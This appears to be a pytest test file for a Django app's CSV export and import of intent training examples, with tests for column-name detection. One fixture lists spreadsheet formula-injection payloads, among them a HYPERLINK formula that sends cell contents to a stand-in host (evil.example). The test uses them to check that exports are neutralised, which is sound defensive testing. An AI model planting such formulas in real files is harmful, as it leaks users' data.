"""CSV exports neutralise cells a spreadsheet would run as formulas and import back verbatim (issue 14,
item 14); labelled files are read by their column names, whichever common ones they use."""

import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from knowledge.csvfiles import CsvError, read_labelled_csv, read_rows
from knowledge.models import Intent, TrainingExample

pytestmark = [pytest.mark.django_db]

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+1+1", "-2+3", "@SUM(1)"]


def test_exported_examples_cannot_run_as_formulas_and_import_back_verbatim():
    intent = Intent.objects.create(name="refund")
    examples = [TrainingExample.objects.create(text=text, intent=intent) for text in [*FORMULAS, "plain text"]]
    admin = User.objects.create_superuser("root", password="pw-for-tests-only")
    client = Client()
    client.force_login(admin)
    response = client.post("/admin/knowledge/trainingexample/",
                            {"action": "export_csv", "_selected_action": [e.pk for e in examples]}, secure=True)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    body = response.content.decode()
    cells = [line.split(",")[0].strip('"') for line in body.splitlines()[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    rows = read_rows(io.StringIO(body), ["text", "intent"])
    assert sorted(row["text"] for row in rows) == sorted([*FORMULAS, "plain text"])


def test_columns_asked_for_are_read_as_given():
    body = "utterance,tag,text\nwhere is my parcel,delivery,ignored\n"
    assert read_labelled_csv(io.StringIO(body), text_column="utterance", intent_column="tag") == (["where is my parcel"], ["delivery"])


def test_common_column_names_are_found_in_any_case_when_none_are_asked_for():
    assert read_labelled_csv(io.StringIO("sentence,label\nrefund please,refund\n")) == (["refund please"], ["refund"])
    assert read_labelled_csv(io.StringIO("Query,Category\nhi,greeting\noff topic,oos\n")) == (["hi", "off topic"], ["greeting", None])


def test_a_file_without_a_known_column_name_says_which_names_were_looked_for():
    with pytest.raises(CsvError, match="text or sentence or utterance"):
        read_labelled_csv(io.StringIO("a,b\nx,y\n"))
